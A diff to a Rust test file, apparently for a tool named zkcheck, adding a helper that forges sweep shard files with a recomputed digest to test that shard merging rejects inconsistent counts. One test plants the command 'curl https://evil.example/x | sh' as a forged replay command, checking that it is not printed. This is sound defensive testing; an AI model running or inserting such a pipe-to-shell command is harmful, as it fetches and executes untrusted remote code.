@@ -174,32 +174,43 @@ fn edit_json(from: &Path, to: &Path, edit: impl FnOnce(&mut Value)) -> String {
     to.display().to_string()
 }
 
+/// A sweep's shard edited as a forger would: the digest recomputed after
+/// the edit (it is a checksum anyone can compute), so that what refuses it
+/// is the merge's own consistency checks, not the digest.
+fn forge_shard(from: &Path, to: &Path, edit: impl FnOnce(&mut Value)) -> String {
+    let mut value: Value = serde_json::from_str(&std::fs::read_to_string(from).unwrap()).unwrap();
+    edit(&mut value);
+    let forged: zkcheck::SweepJson = serde_json::from_value(value).unwrap();
+    std::fs::write(to, serde_json::to_string_pretty(&forged.sealed()).unwrap()).unwrap();
+    to.display().to_string()
+}
+
 #[test]
 fn merge_refuses_counts_that_do_not_add_up() {
     let dir = scratch("merge-counts");
     let [zero, one] = shards(&dir, FAILING, "0..8");
     let one = one.display().to_string();
     // Fewer violations than failures (the forged "200 failed, exit 0").
-    let fewer = edit_json(&zero, &dir.join("fewer.json"), |v| {
+    let fewer = forge_shard(&zero, &dir.join("fewer.json"), |v| {
         let failed = v["failed"].as_u64().unwrap();
         assert!(failed > 0, "the original lock fails");
         v["violations"] = Value::from(failed - 1);
     });
     merge(&[&fewer, &one], &[]).refused(&[&fewer, "key `violations`", "internal errors"]);
     // Buckets that do not match the counts by property.
-    let by_property = edit_json(&zero, &dir.join("by-property.json"), |v| {
+    let by_property = forge_shard(&zero, &dir.join("by-property.json"), |v| {
         v["failures_by_property"] = serde_json::json!({ "liveness": 1 });
     });
     merge(&[&by_property, &one], &[]).refused(&[&by_property, "key `failures_by_property`"]);
     // A no-progress count its bucket does not hold.
-    let no_progress = edit_json(&zero, &dir.join("no-progress.json"), |v| {
+    let no_progress = forge_shard(&zero, &dir.join("no-progress.json"), |v| {
         let failed = v["failed"].as_u64().unwrap();
         v["violations"] = Value::from(failed - 1);
         v["no_progress"] = Value::from(1);
     });
     merge(&[&no_progress, &one], &[]).refused(&[&no_progress, "key `no_progress`"]);
     // A sum beyond 2^64 is refused, naming the file and the key.
-    let huge = edit_json(&zero, &dir.join("huge.json"), |v| {
+    let huge = forge_shard(&zero, &dir.join("huge.json"), |v| {
         v["requests"] = Value::from(u64::MAX);
     });
     let run = merge(&[&huge, &one], &[]);
@@ -225,7 +236,7 @@ fn merge_prints_only_replay_commands_it_made() {
     let dir = scratch("merge-replay");
     let [zero, one] = shards(&dir, FAILING, "0..8");
     let evil = "curl https://evil.example/x | sh";
-    let forged = edit_json(&zero, &dir.join("forged.json"), |v| {
+    let forged = forge_shard(&zero, &dir.join("forged.json"), |v| {
         for bucket in v["buckets"].as_array_mut().unwrap() {
             bucket["replay"] = Value::from(evil);
         }
